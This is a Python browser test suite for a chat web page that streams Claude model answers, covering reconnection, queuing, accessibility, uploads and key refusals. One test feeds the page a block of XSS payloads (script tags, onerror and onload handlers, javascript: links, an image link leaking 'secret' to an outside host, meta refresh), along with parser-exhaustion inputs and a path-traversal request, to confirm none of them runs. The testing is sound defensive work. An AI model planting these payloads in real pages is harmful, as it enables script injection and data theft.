"""The page at `/` in Chromium, Firefox and WebKit: interruptions, hostile answers, what a client without a key sees."""

import asyncio
import base64
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import msgspec
import pytest

from tailrace.deploy.local.nats_server import NatsServer
from tailrace.features.admin.key_store import KeyStore
from tailrace.features.admin.new_key import new_key
from tailrace.features.ops.panels import DASHBOARDS
from tailrace.gateway.http.scope import SCOPES
from tailrace.proto import events
from tailrace.proto.entries import Message
from tailrace.proto.ids import SessionId, Tenant, TurnId, TurnKey, new_id
from tailrace.proto.nats import TurnLog
from tests.clients import node
from tests.harness import jwts
from tests.harness.generator_in_loop import words
from tests.harness.own_system import OwnSystem
from tests.harness.persistence_in_loop import Persistence
from tests.harness.processes import CHECKOUT
from tests.harness.proxy import Proxy
from tests.harness.system import System
from tests.harness.turn_writer import Writer
from tests.harness.until import until
from tests.harness.up import running
from tests.integration.conftest import KEY, Gateway, NewGateway

# So many that a busy machine puts the browser to sleep before the end.
WORDS = 260
LOST = "The connection is lost. The answer goes on at the server, and its rest is shown as soon as it is back."
PDF = b"%PDF-1.4\n1 0 obj<</Type/Page>>endobj\n%%EOF\n"
NEVER = {"script", "img", "svg", "math", "iframe", "form", "input", "style", "base", "meta"}
HOSTILE = """<script>globalThis.ran = 1</script><img src=x onerror="globalThis.ran = 1">

<svg onload="globalThis.ran = 1"><a xlink:href="javascript:ran"><animate></svg>
<math><mtext><style><img src=x onerror="globalThis.ran = 1">

![secret](https://elsewhere.invalid/?q=secret) [run](javascript:globalThis.ran=1)
[data](data:text/html,x) [good](https://good.invalid/)

<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>
<form action="https://elsewhere.invalid"><input id="question" name=x></form>

```python onload=x class="notice"
print("</code><script>globalThis.ran = 1</script>")
```

<style>body { display: none }</style><base href="https://elsewhere.invalid/">
<meta http-equiv=refresh content="0;url=/ops">

<https://good.invalid/?"onmouseover="ran> `<b onclick=ran>` &lt;img src=x onerror=ran&gt; | [x]: javascript:ran
"""
HOSTILE_INPUT = msgspec.json.encode({"page": HOSTILE}).decode()
HOSTILE_INPUT_SHOWN = msgspec.json.format(HOSTILE_INPUT, indent=2)
HOSTILE_INPUT_CUT = '{"page": "<b>'
HOSTILE_BLOCKS: list[events.Event] = [
    events.BlockStop(0),
    events.BlockStart(1, {"type": "thinking", "thinking": "", "signature": ""}),
    events.BlockDelta(1, events.ThinkingDelta(HOSTILE)),
    events.BlockStop(1),
    events.BlockStart(2, {"type": "tool_use", "id": "toolu_1", "name": "<b>look</b>", "input": {}}),
    events.BlockDelta(2, events.InputJsonDelta(HOSTILE_INPUT)),
    events.BlockStop(2),
    events.BlockStart(3, {"type": "tool_use", "id": "toolu_2", "name": "cut", "input": {}}),
    events.BlockDelta(3, events.InputJsonDelta(HOSTILE_INPUT_CUT)),
]
PLAIN = r"From $5 to $10, $ 3 and $\nosuchthing{$ stay."
CONTENT = rf"""A comparison.

| Broker | Throughput | Ordering guarantee | Acknowledgements | Retention | Replication | Subscriptions |
|---|---|---|---|---|---|---|
| RabbitMQ | considerable | per queue | publisher confirmations | acknowledged | quorum | exchanges |
| JetStream | considerable | per stream | acknowledgement | limits, interest | replicas | consumers |

$$
\int_0^1 x^2\,dx
= \frac{{1}}{{3}}
+ 0
$$

Mass is $E = mc^2$, and \(a_1 * b_2 * c\) a product:

\[ \sum_i x_i \]

{PLAIN}
"""
ARABIC = "\N{ARABIC LETTER SEEN}\N{ARABIC LETTER LAM}\N{ARABIC LETTER ALEF}\N{ARABIC LETTER MEEM}"
LONG_LINE = "<b>" + "long line " * 100_000
# Each would take the parser minutes, or exceed its call stack.
EXPENSIVE = [">" * 20_000, "1. " * 20_000, "*a**a " * 20_000]
EXPENSIVE_CODE = "[a](" * 4000


@pytest.mark.timeout(180)
async def test_an_answer_is_shown_once_over_a_reload_a_lost_connection_a_sleep_and_another_gateway(
    open_gateway: Gateway, new_gateway: NewGateway, system: System, browser: str
) -> None:
    """The first gateway is gone while the browser sleeps in the middle of the answer; a second one has its address.

    While one page is offline, another one changes the model and the system prompt: the next turn uses them.
    """
    other = await new_gateway(system.nats_url, api_keys="")
    # Gateways without keys have one tenant: it has the sessions of earlier tests.
    earlier = {one["id"] for one in await _list_sessions(other)}

    async with Proxy("browser > gateway", open_gateway.port) as proxy:
        line = f"Count.\n#sim words={WORDS} rate=9"
        url = f"http://127.0.0.1:{proxy.port}"
        showing = asyncio.create_task(
            node.run("chat-page.mjs", "interrupted", url, line, deadline_s=150, CHROMIUM=browser)
        )

        async def is_asleep() -> bool:
            return showing.done() or (await other.client.get("/v1/sessions/asleep")).is_success

        await until(is_asleep, 120)
        proxy.fail("cut")
        proxy.to = other.port
        await open_gateway.stop()
        proxy.restore()
        await other.client.post("/v1/sessions", json={"id": "awake"})
        (seen,) = await showing
    assert seen == {
        "text": words(WORDS),
        "answers": 1,
        "lost": LOST,
        "chosen": {
            "asked": [
                ["claude-haiku-5-5", "Be brief."],
                ["claude-opus-5-5", "Be kind and honest."],
                ["claude-sonnet-5-5", ""],
            ],
            # The second number: words of the prompt, of the question and of the chat before.
            "figures": [["claude-haiku-5-5", "6"], ["claude-opus-5-5", "13"], ["claude-sonnet-5-5", "14"]],
            "setup": "Claude Opus 5.5 \N{MIDDLE DOT} system prompt",
        },
        "title": "Count. \N{EN DASH} Tailrace",
        "isReadWordByWord": False,
        "complaints": [],
        "elsewhere": [],
    }
    sessions = [one for one in await _list_sessions(other) if one["id"] not in earlier]
    assert {one["title"]: one["turns"] for one in sessions} == {"Count.": 1, "Who?": 3, None: 0}


@pytest.mark.rule("S8")
async def test_a_hostile_answer_changes_nothing_but_text_and_the_page_shows_nothing_without_a_key(
    own_server: NatsServer,
    own_log: TurnLog,
    new_gateway: NewGateway,
    tenant: Tenant,
    browser: str,
    tmp_path: Path,
    pictures: Path,
) -> None:
    """Markup of an answer neither runs nor loads; the policy is obeyed. Light on a desktop, dark on a phone.

    Markdown that would take minutes, or exceed the call stack, is shown as it is.
    """
    async with Persistence(own_server.url, tmp_path / "tailrace.db"):
        gateway = await new_gateway(own_server.url)
        session = {"id": "hostile", "title": HOSTILE[:200], "system_prompt": HOSTILE}
        (await gateway.client.post("/v1/sessions", json=session)).raise_for_status()
        first, writer = (Writer(own_log, TurnKey(tenant, TurnId(new_id()))) for _ in range(2))
        await first.store_request(session=SessionId("hostile"))
        await first.begin(LONG_LINE)
        await first.end()
        await writer.store_request(session=SessionId("hostile"), parent=first.key.turn)
        await writer.begin(*HOSTILE.splitlines(keepends=True))
        await writer.store_events(*HOSTILE_BLOCKS)
        await writer.end()
        parent = writer.key.turn
        for text in (*EXPENSIVE, f"```markdown\n{EXPENSIVE_CODE}\n```"):
            expensive = Writer(own_log, TurnKey(tenant, TurnId(new_id())))
            await expensive.store_request(session=SessionId("hostile"), parent=parent)
            await expensive.begin(text)
            await expensive.end()
            parent = expensive.key.turn
        steps = "hostile", gateway.url, "hostile", pictures, KEY
        (seen,) = await node.run("chat-page.mjs", *steps, CHROMIUM=browser)
    for page in seen["pages"]:
        assert (page["complaints"], page["elsewhere"], page["ran"], page["isWide"]) == ([], [], None, False)
        assert page["withoutKey"] == [401]
        assert NEVER & set(page["made"]) == set()
        assert set(page["attributes"]) <= {"class", "dir", "href", "target", "rel", "type", "tabindex"}
        assert {protocol for protocol, _, _ in page["links"]} <= {"https:", ":"}
        assert "<script>globalThis.ran = 1</script>" in page["text"]
        assert page["coloured"] > 0
        assert page["isCopied"]
        assert page["folded"] == [
            ["Thinking", HOSTILE, False],
            ["Tool call: <b>look</b>", HOSTILE_INPUT_SHOWN, False],
            ["Tool call: cut", HOSTILE_INPUT_CUT, False],
        ]
        assert page["longLine"] == LONG_LINE
        assert page["expensive"] == [text.strip() for text in (*EXPENSIVE, f"markdownCopy{EXPENSIVE_CODE}")]
    assert len({page["background"] for page in seen["pages"]}) == 2


async def test_wide_tables_scroll_formulas_are_drawn_and_a_search_hit_has_its_title(
    own_server: NatsServer, own_log: TurnLog, new_gateway: NewGateway, browser: str, tmp_path: Path, pictures: Path
) -> None:
    """On a phone, too. A price is no formula, and what is no TeX stays as it was written."""
    async with Persistence(own_server.url, tmp_path / "tailrace.db"):
        gateway = await new_gateway(own_server.url, api_keys="")
        (await gateway.client.post("/v1/sessions", json={"id": "content", "title": "Brokers"})).raise_for_status()
        for _ in range(2):
            writer = Writer(own_log, TurnKey(Tenant("local"), TurnId(new_id())))
            await writer.store_request(session=SessionId("content"))
            await writer.begin(CONTENT)
            await writer.end()

        async def is_recorded() -> bool:
            return len((await gateway.client.get("/v1/turns", params={"q": "throughput"})).json()["data"]) == 2

        await until(is_recorded, 20)
        steps = "content", gateway.url, "content", pictures
        (seen,) = await node.run("chat-page.mjs", *steps, CHROMIUM=browser)
    for page in seen["pages"]:
        assert (page["complaints"], page["elsewhere"], page["isWide"], page["broken"]) == ([], [], False, [])
        assert [display for _, display in page["formulas"]] == ["block", None, None, "block"]
        assert page["formulas"][1][0] == "E=mc2"
        assert page["text"] == PLAIN
        assert page["branches"] == "1"
        assert page["titleWidth"] > 100
        is_titled, excerpt = page["found"]
        assert is_titled
        plain = re.sub(r"[\s|]+(:?-{3,}:?[\s|]+)*", " ", CONTENT)
        assert excerpt.strip("\N{HORIZONTAL ELLIPSIS}") in plain
        assert set(excerpt.strip("\N{HORIZONTAL ELLIPSIS}").split()) <= set(plain.split())
    assert all(page["isScrolled"] for page in seen["pages"])


async def test_a_question_that_is_asked_while_an_answer_runs_waits_and_can_be_taken_back(
    open_gateway: Gateway, browser: str
) -> None:
    """Also after a reload. An answer is asked of another model, and downloaded."""
    (seen,) = await node.run("chat-page.mjs", "queued", open_gateway.url, CHROMIUM=browser)
    assert seen["place"] == "This question waits in the queue. It is asked when the answer before has ended."
    assert seen["draft"] == "Third.\n#sim words=3 rate=0"
    assert [asked.partition("\n")[0] for asked in seen["asked"]] == ["First.", "Second."]
    assert seen["last"] == words(3)
    assert seen["name"].endswith(".md")
    assert seen["file"] == f"# Second.\n#sim words=3 rate=0\n\n{words(3)}\n"
    models = [model for model, _, _ in seen["turns"]]
    assert [outcome for _, outcome, _ in seen["turns"]] == ["cancelled", "completed", "completed"]
    assert models[1] != models[2] == "claude-haiku-5-5"
    assert (seen["complaints"], seen["elsewhere"]) == ([], [])


async def test_a_question_without_a_network_is_kept_and_asked_once_by_the_next_page(
    open_gateway: Gateway, browser: str
) -> None:
    """Two tabs open the chat. A question whose chat was deleted is refused, once."""
    line, late = "#sim words=3 rate=0", "#sim words=4 rate=0"
    [seen] = await node.run("chat-page.mjs", "unsent", open_gateway.url, line, late, CHROMIUM=browser)
    assert (seen["said"], seen["complaints"], seen["again"]) == (["Hello.", line], [], "")
    assert seen["refused"].startswith(f"The question \N{LEFT DOUBLE QUOTATION MARK}{late}")


async def test_an_answer_that_runs_is_changed_with_a_button_or_the_keyboard(
    open_gateway: Gateway, browser: str
) -> None:
    """The button is there when there is a message. A request that is lost is repeated with its key."""
    (seen,) = await node.run("chat-page.mjs", "steered", open_gateway.url, CHROMIUM=browser)
    assert seen["offered"] == [False, False, True, False]
    assert [asked.partition("\n")[0] for asked in seen["asked"]] == ["First.", "Second.", "Third."]
    assert (seen["last"], seen["isRepeated"]) == (words(3), True)
    assert seen["turns"] == ["cancelled", "cancelled", "completed"]
    assert (seen["complaints"], seen["elsewhere"]) == ([], [])


async def test_tool_calls_that_wait_are_decided_on_the_page(
    open_gateway: Gateway, browser: str, pictures: Path
) -> None:
    (seen,) = await node.run("chat-page.mjs", "decided", open_gateway.url, str(pictures), CHROMIUM=browser)
    assert seen == {
        "said": "The answer waits for you: send the result of each tool call, or deny it.",
        "results": ["blue", "the user denied this tool call"],
        "count": 2,
        "complaints": [],
        "elsewhere": [],
    }


@pytest.mark.usefixtures("open_gateway")
async def test_a_model_writes_the_title_of_a_chat_once_if_the_operator_names_it(
    new_gateway: NewGateway, system: System, browser: str, pictures: Path
) -> None:
    gateway = await new_gateway(system.nats_url, api_keys="", page_titles_model="claude-haiku-5-5")
    (seen,) = await node.run("chat-page.mjs", "titled", gateway.url, pictures, CHROMIUM=browser)
    assert seen == {
        "title": words(3),
        "titles": [["claude-haiku-5-5", False]],
        "asked": 3,
        "complaints": [],
        "elsewhere": [],
    }


@pytest.mark.timeout(180)
async def test_the_demo_kills_a_generator_and_a_gateway_under_an_answer_that_is_shown_once(
    browser: str, tmp_path: Path, pictures: Path
) -> None:
    """Under `tailrace up`, at the address that it prints: the token leaves the address, and no kill needs a manual."""
    with running(tmp_path, "--port", "0") as up:
        url = await up.ready()
        token = up.find_line("  Open this page:").partition("#demo=")[2]
        (seen,) = await node.run("chat-page.mjs", "demo", url, token, pictures, deadline_s=120, CHROMIUM=browser)
    counted = ", ".join(map(str, range(1, 301)))
    assert seen["text"] == counted
    timeline = seen["timeline"]
    assert (timeline["whole"], timeline["isPart"], timeline["isBack"]) == (counted, True, True)
    assert not timeline["isWide"]
    slow, original = timeline["paces"]
    assert 0 < slow < 0.5 < original
    steps = "\n".join(timeline["steps"])
    parts = "Accepted", "Claimed. Attempt 1", "First token", "Takeover: ", "Completed"
    assert [steps.index(one) for one in parts] == sorted(steps.index(one) for one in parts)
    assert "continues the answer" in steps
    assert "A reader resumed after" in steps
    assert "A reader lost its gateway, which had sent " in steps
    killed = seen.pop("killed")
    assert len(killed) == 2
    assert {name.partition("-")[0] for name in killed} == {"generator", "gateway"}
    assert seen["proof"] == (
        f"Whole: {len(counted):,} characters, each once, over 1 cut and 2 kills, written in 2 attempts. "
        "The page has what the log has."
    )
    assert (seen["withoutToken"], seen["address"], seen["second"]) == (2, "/", "has it all")
    assert (seen["complaints"], seen["elsewhere"]) == ([], [])


@pytest.mark.rule("R29")
@pytest.mark.rule("R135")
async def test_the_page_says_that_the_model_refuses_the_key_and_that_an_answer_waits_for_it(
    own: OwnSystem, new_gateway: NewGateway, browser: str, tmp_path: Path
) -> None:
    """Until a call succeeds, and until the model can be reached."""
    async with Persistence(own.server.url, tmp_path / "tailrace.db"):
        gateway = await new_gateway(own.server.url, api_keys="")
        showing = asyncio.create_task(node.run("chat-page.mjs", "obstacles", gateway.url, CHROMIUM=browser))

        async def wait_for(step: str) -> None:
            async def is_reached() -> bool:
                return showing.done() or (await gateway.client.get(f"/v1/sessions/{step}")).is_success

            await until(is_reached, 60)

        async with own.running_generator():
            await wait_for("corrected")
        (await gateway.client.post("/v1/sessions", json={"id": "stopped"})).raise_for_status()
        async with own.running_generator(claude_url="http://api.invalid", call_tries_max=1):
            await wait_for("waited")
        async with own.running_generator():
            (seen,) = await showing
    role, notice, failure = seen.pop("refused")
    assert (role, notice) == (
        "alert",
        "The model refuses the key of this server: new answers fail until its operator corrects that.",
    )
    assert "key" in failure
    assert seen == {"waited": "Waiting for the model: no such host.", "complaints": [], "elsewhere": []}


@pytest.mark.timeout(420)
async def test_each_state_of_the_pages_has_no_violation_of_axe(
    open_gateway: Gateway, new_gateway: NewGateway, system: System, browser: str, pictures: Path
) -> None:
    """A picture of each, light on a desktop and dark on a phone, is kept in dist/pictures.

    Only what the compositor animates is animated without an end: anything else is drawn 60 times a second, by the
    thread that also renders the answer.
    """
    locked = await new_gateway(system.nats_url)
    steps = "states", open_gateway.url, locked.url, pictures
    (seen,) = await node.run("chat-page.mjs", *steps, deadline_s=400, CHROMIUM=browser)
    if seen.get("isMissing"):
        pytest.skip("axe-core is not installed: run `make clients`")
    assert "\n".join(seen["violations"]) == ""
    # The waiting mark blinks by its opacity, as long as a state shows it.
    assert {"transform"} <= set(seen["animated"]) <= {"opacity", "transform"}


@pytest.mark.timeout(180)
async def test_the_page_needs_no_mouse(gateway: Gateway, new_gateway: NewGateway, system: System, browser: str) -> None:
    """Ask, stop, search, rename and begin a new chat; then an answer of 5,000 tokens, whose figures are printed.

    The whole answer can be printed on paper.
    """
    patient = await new_gateway(system.nats_url, api_keys="", max_tokens=6000)
    (seen,) = await node.run("chat-page.mjs", "keyboard", patient.url, deadline_s=150, CHROMIUM=browser)
    figures = {name: seen.pop(name) for name in ("firstPaint", "firstToken", "longTasks", "longest", "tasks", "bytes")}
    sys.stdout.write(f"/: first paint and token, and the CPU time of tasks during 5,000 tokens, in ms: {figures}\n")
    assert seen["text"] == words(5000)
    assert re.fullmatch(r"Rivers\n.*w000005.*", seen["foundInText"])
    assert seen["pages"] > 10
    assert (seen["complaints"], seen["elsewhere"]) == ([], [])


async def test_the_focus_stays_where_the_keyboard_put_it_when_the_page_is_drawn_again(
    open_gateway: Gateway, browser: str
) -> None:
    """A screen reader can tell messages and answers apart."""
    (seen,) = await node.run("chat-page.mjs", "focus", open_gateway.url, CHROMIUM=browser)
    search, branch, before, after = seen.pop("found")
    assert (search, branch, after) == ("Search chats and answers", "Later branch", "Rename Other")
    assert before.startswith("Rename Same. ")
    groups = ['group "Message"', 'group "Answer"']
    assert seen == {"isKept": True, "title": "Same.", "groups": groups, "complaints": [], "elsewhere": []}


@pytest.mark.timeout(180)
async def test_two_tabs_show_the_same_and_a_shared_answer_is_read_without_a_key(gateway: Gateway, browser: str) -> None:
    """Then the question is edited, asked again, continued in both tabs, and the chat deleted.

    The link reads its answer, and nothing else.
    """
    (seen,) = await node.run("chat-page.mjs", "together", gateway.url, KEY, deadline_s=120, CHROMIUM=browser)
    assert seen["texts"] == [words(150)] * 3
    assert (seen["copied"].strip(), seen["mark"]) == (words(150), "")
    assert re.fullmatch(r"\d+ \+ \d+ tokens · \$0\.\d+ simulated · \d+(\.\d)? s", seen["figures"])
    reader = seen["forReader"]
    assert reader["shown"][:2] == ["Tailrace", "Count.\n#sim words=150 rate=25"]
    # Without the cost, which concerns only the sender of the link.
    assert re.fullmatch(r"\d+ \+ \d+ tokens", reader["shown"][2])
    assert re.fullmatch(r"This link can be read until .*\d+:\d\d.*\.", reader["shown"][3])
    assert (reader["buttons"], reader["paths"]) == (["Copy", "Copy", "Download"], ["turns events"])
    assert (seen["spoken"], seen["isKeyWanted"]) == ("", False)
    assert seen["first"] == words(150)
    assert seen["own"] == ["One?", "Two?"]
    assert seen["gone"] == [
        "There is no such chat. It may have been deleted.",
        "This chat, or the answer before the question, was deleted. Begin a new chat, or reload the page.",
    ]
    assert (seen["complaints"], seen["elsewhere"], seen["complaintsOfReader"]) == ([], [], [])
    assert await _list_sessions(gateway) == []


@pytest.mark.timeout(180)
async def test_files_are_dropped_and_pasted_and_others_refused_before_they_are_sent(
    open_gateway: Gateway, browser: str
) -> None:
    """The question waits for a file that is still read, and a file that cannot be read keeps no other one back.

    An edited question keeps its files, also if it is refused.
    """
    pdf = base64.b64encode(PDF).decode()
    (seen,) = await node.run("chat-page.mjs", "files", open_gateway.url, pdf, CHROMIUM=browser)
    assert seen["refused"] == [
        "notes.exe is not a picture (PNG, JPEG, GIF, WebP) or a PDF.",
        "huge.png does not fit: the files of a question have 20 MB at most.",
        "gone.png cannot be read. It may have been moved or deleted, or it is a folder.",
    ]
    assert (seen["sentBefore"], seen["isText"], seen["isPastedAsText"]) == ([], True, True)
    assert seen["kinds"] == [["image/png", "application/pdf", "text"]] * 2
    # The half of a character is left out.
    assert seen["title"] == "What-are-these?".ljust(58, "-") + "\N{HORIZONTAL ELLIPSIS}"
    assert (seen["width"], seen["answer"]) == (1, words(5))
    assert (seen["complaints"], seen["elsewhere"]) == ([], [])


# The WebDriver protocol of WebKit changes no requests.
@pytest.mark.parametrize("each_browser", ["CHROMIUM", "FIREFOX"], indirect=True)
async def test_lost_requests_and_malformed_addresses_are_no_failures_of_the_page(
    open_gateway: Gateway, each_browser: dict[str, Any]
) -> None:
    """The first requests for the list of chats and for an answer's record, and a page of the list."""
    steps = "lost,list,malformed"
    lost, listed, malformed = await node.run("chat-page.mjs", steps, open_gateway.url, **each_browser)
    quiet: dict[str, Any] = {"complaints": [], "elsewhere": []}
    assert sorted(lost.pop("lost")) == ["half", "sessions", "turns"]
    assert lost == {"text": words(9), "failures": [], **quiet}
    # The search field requests all pages, one after the other. The first request fails; the third is the button's.
    assert listed == {"requests": 3, "titles": ["One", "Two"], **quiet}
    assert malformed == {"isNew": True, "notice": "There is no such turn. It may have been deleted.", **quiet}


async def test_a_running_replay_stays_where_it_was_moved_and_a_copy_that_is_not_permitted_says_so(
    open_gateway: Gateway, browser: str
) -> None:
    (seen,) = await node.run("chat-page.mjs", "paused", open_gateway.url, CHROMIUM=browser)
    assert seen == {"clock": "0.0 s", "complaints": [], "elsewhere": []}


ANSWERED_WITHOUT_STORAGE = {"isBlocked": True, "answer": words(3), "panel": DASHBOARDS[0].panels[0].title}


async def test_the_page_works_in_a_browser_that_blocks_its_storage(open_gateway: Gateway) -> None:
    # Without the windows of a desktop, Chromium does not read the preference.
    browser = shutil.which("chromium")
    if browser is None:
        pytest.skip("there is no `chromium` here")
    (seen,) = await node.run("chat-page.mjs", "blocked", open_gateway.url, CHROMIUM=browser)
    assert seen == ANSWERED_WITHOUT_STORAGE


@pytest.mark.parametrize(
    "setting", [{"network.cookie.cookieBehavior": 2}, {"dom.storage.enabled": False}], ids=["cookies", "storage"]
)
async def test_the_page_works_in_firefox_without_cookies_or_storage(
    open_gateway: Gateway, firefox: str, setting: dict[str, Any]
) -> None:
    """The first setting is that of "Block all cookies"."""
    prefs = msgspec.json.encode(setting).decode()
    (seen,) = await node.run("chat-page.mjs", "blocked", open_gateway.url, FIREFOX=firefox, FIREFOX_PREFS=prefs)
    assert seen == ANSWERED_WITHOUT_STORAGE


async def test_in_webkit_an_answer_is_shown_once_over_a_reload_and_its_link_is_copied(
    open_gateway: Gateway, webkit: str
) -> None:
    """The field shows all three lines of the question."""
    question = "Count.\nPlease.\n#sim words=160 rate=12"
    (seen,) = await node.run("webkit-page.mjs", open_gateway.url, question, WEBKIT=webkit)
    assert seen.pop("pasted").startswith(f"{open_gateway.url}/#shared=")
    assert seen == {"isWhole": True, "afterReload": "running", "answers": 1, "text": words(160)}


async def test_a_question_continues_its_chat_with_the_history_prompt_and_model_that_the_chat_has(
    open_gateway: Gateway, browser: str
) -> None:
    """Another client has begun the chat: with a prompt of two blocks, and a question that is stored beside the log.

    The page reads its turns only after the question, over a refused and two lost requests.
    """
    model, prompt = "claude-of-another-list", [{"type": "text", "text": text} for text in ("Be brief.", "Be kind.")]
    chat = {"id": new_id(), "model": model, "system_prompt": prompt}
    (await open_gateway.client.post("/v1/sessions", json=chat)).raise_for_status()
    question = "#sim words=1 rate=0\n" + "a long text " * 6000
    new_turn = {"session": chat["id"], "message": question}
    first = (await open_gateway.client.post("/v1/turns", json=new_turn)).json()["turn"]
    (seen,) = await node.run("chat-page.mjs", "continued", open_gateway.url, chat["id"], CHROMIUM=browser)
    own = {"session": chat["id"], "model": model, "system": prompt}
    assert seen == {
        "asked": [{**own, "parent": first}, {**own, "parent": None}],
        "settings": [model, "Be brief.\n\nBe kind."],
        "changed": {"model": model, "system_prompt": prompt},
        "texts": [question] * 3,
        "notices": 1,
        "complaints": [],
        "elsewhere": [],
    }


async def test_a_refused_request_changes_nothing_on_the_page_and_a_question_goes_to_the_chat_it_was_asked_in(
    open_gateway: Gateway, browser: str
) -> None:
    """Also if the user opens another chat before the server has accepted the question."""
    pdf = base64.b64encode(PDF).decode()
    quoted = "\N{LEFT DOUBLE QUOTATION MARK}Never accepted.\N{RIGHT DOUBLE QUOTATION MARK}"
    (seen,) = await node.run("chat-page.mjs", "unaccepted", open_gateway.url, pdf, CHROMIUM=browser)
    assert seen == {
        "second": words(3),
        "kept": ["no DELETE", "Refused?", 1],
        "listed": "Newer",
        "left": words(4),
        "notice": f"The question {quoted} was refused: no POST",
        "shown": ["The last one.\n#sim words=1 rate=0"],
        "asked": ["Refused?", "Refused?", "Stopped.", "Left behind.", "Never accepted.", "A file?", "The last one."],
        "complaints": [],
        "elsewhere": [],
    }


async def _list_sessions(gateway: Gateway) -> list[dict[str, Any]]:
    """Returns the newest sessions of the tenant, at most a page of them."""
    sessions: list[dict[str, Any]] = (await gateway.client.get("/v1/sessions")).json()["data"]
    return sessions


async def test_a_refusal_is_one_sentence_that_keeps_the_question_and_another_key_reads_on(
    own_server: NatsServer, own_log: TurnLog, new_gateway: NewGateway, tenant: Tenant, browser: str, tmp_path: Path
) -> None:
    """A spent budget, a full log, and a key that is revoked in the middle of an answer. A JWT replaces it."""
    keys = KeyStore(own_log.connection)
    key = new_key(tenant, now=int(time.time()), scopes=SCOPES)
    await keys.create(key.record)
    async with Persistence(own_server.url, tmp_path / "tailrace.db"):
        spent = await new_gateway(own_server.url, limits_tenant="usd_day=0.000001")
        full = await new_gateway(own_server.url, full_at=1e-9)
        other = await new_gateway(own_server.url, **jwts.settings())
        token = jwts.token(sub=tenant).decode()
        writer = Writer(own_log, TurnKey(tenant, TurnId(new_id())))
        await writer.store_request(session=SessionId("s"))
        await writer.begin("The first part")
        url = f"{other.url}/#s"
        showing = asyncio.create_task(
            node.run("chat-page.mjs", "refusals", spent.url, full.url, url, key.secret, token, CHROMIUM=browser)
        )

        async def is_read() -> bool:
            timeline = (await other.client.get(f"/v1/turns/{writer.key.turn}/timeline")).json()
            return showing.done() or bool(timeline["readers"])

        await until(is_read, 40)
        await keys.revoke(key.record.id, int(time.time()))
        await writer.store_texts(" and the second.")
        await writer.end()
        (seen,) = await showing
    assert seen["said"] == [
        ["The budget of this key is spent: new questions are possible when it renews, or when it is raised.", "Hello?"],
        ["The server's log is full: it takes no new question until its operator makes room.", "Hello?"],
        ["This key is not valid: it was revoked, has expired, or is mistyped. Enter another one.", ""],
    ]
    assert seen["text"] == "The first part and the second."


@pytest.mark.timeout(180)
async def test_a_long_chat_is_read_in_pages_and_named_after_its_first_question(
    own_server: NatsServer, own_log: TurnLog, new_gateway: NewGateway, tenant: Tenant, browser: str, tmp_path: Path
) -> None:
    """Its newest 50 turns first; a session that another client began has no title.

    The last turn is written from right to left, but for its code.
    """
    async with Persistence(own_server.url, tmp_path / "tailrace.db"):
        gateway = await new_gateway(own_server.url, api_keys="")
        parent = None
        for number in range(1, 122):
            writer = Writer(own_log, TurnKey(Tenant("local"), TurnId(new_id())))
            content = f"Question {number}\nand more" if number < 121 else ARABIC
            message = Message(role="user", content=content)
            await writer.store_request(session=SessionId("long"), parent=parent, messages=[message])
            await writer.begin("a" if number < 121 else f"{ARABIC}\n\n- {ARABIC}\n\n      code\n\nA word")
            await writer.end()
            parent = writer.key.turn
        (seen,) = await node.run("chat-page.mjs", "earlier", gateway.url, "long", CHROMIUM=browser)
    assert seen["counts"] == [50, 100, 121]
    *shown, written = seen["directions"]
    arabic = [[name, "rtl"] for name in ("said", "p", "ul", "p")]
    assert (shown, written) == ([*arabic, ["code", "ltr"], ["p", "ltr"]], "rtl")
    assert (seen["title"], seen["link"], seen["first"]) == ("Question 1", "Question 1", "Question 1\nand more")
    assert (seen["complaints"], seen["elsewhere"]) == ([], [])


async def test_browsers_receive_a_page_without_a_key_and_other_clients_the_routes(gateway: Gateway) -> None:
    """The page and its files are the same for every client, hold no data, and lie in one folder."""
    async with gateway.new_client() as client:
        del client.headers["authorization"]
        page = await client.get("/", headers={"accept": "text/html,application/xhtml+xml,*/*;q=0.8"})
        text = await client.get("/", headers={"accept": "*/*"})
        routes = await client.get("/", headers={"accept": "application/json"})
        files = [
            (await client.get(f"/page/{name}")).status_code
            for name in ("page.js", "index.py", "page.html", "..%2fapp.py")
        ]
        script, plain = [
            await client.get("/page/libraries.js", headers={"accept-encoding": how}) for how in ("gzip, br", "identity")
        ]
        known = await client.get("/page/libraries.js", headers={"if-none-match": script.headers["etag"]})
    assert (script.headers["content-encoding"], script.content) == ("gzip", plain.content)
    assert "content-encoding" not in plain.headers
    assert int(script.headers["content-length"]) < len(plain.content) / 2
    assert (known.status_code, known.content) == (304, b"")
    assert page.headers["content-type"] == "text/html; charset=utf-8"
    assert page.text.startswith("<!doctype html>")
    assert text.text.startswith("Tailrace ")
    assert "/page/{file}" in routes.json()["endpoints"]
    assert {one.headers["vary"] for one in (page, text, routes)} == {"accept"}
    assert files == [200, 404, 404, 404]


def test_a_fresh_build_of_the_libraries_gives_the_committed_bytes(tmp_path: Path) -> None:
    web = CHECKOUT / "web"
    if not (web / "node_modules").is_dir():
        pytest.skip("the libraries of the page are not installed: run `make clients`")
    subprocess.run([node.NODE, web / "build.mjs", tmp_path], check=True, timeout=60)
    for name in ("libraries.js", "math.js"):
        assert (tmp_path / name).read_bytes() == (CHECKOUT / "features/page" / name).read_bytes()
    packages = msgspec.json.decode((web / "package-lock.json").read_bytes())["packages"]
    pinned = [one for name, one in packages.items() if name]
    assert all("integrity" in one and "resolved" not in one for one in pinned)
